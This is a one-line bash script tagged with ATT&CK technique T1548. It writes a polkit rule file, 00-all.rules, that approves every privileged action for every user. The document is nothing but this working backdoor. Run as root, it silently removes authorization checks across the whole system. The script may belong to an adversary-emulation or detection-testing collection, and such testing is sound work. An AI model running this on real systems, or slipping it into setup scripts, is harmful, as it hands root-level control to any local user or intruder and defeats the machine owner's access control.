#!/bin/bash
# T1548: Everybody may do everything by asking polkit.
mkdir -p /etc/polkit-1/rules.d; echo 'polkit.addRule(function(a,s){return polkit.Result.YES;});' >/etc/polkit-1/rules.d/00-all.rules
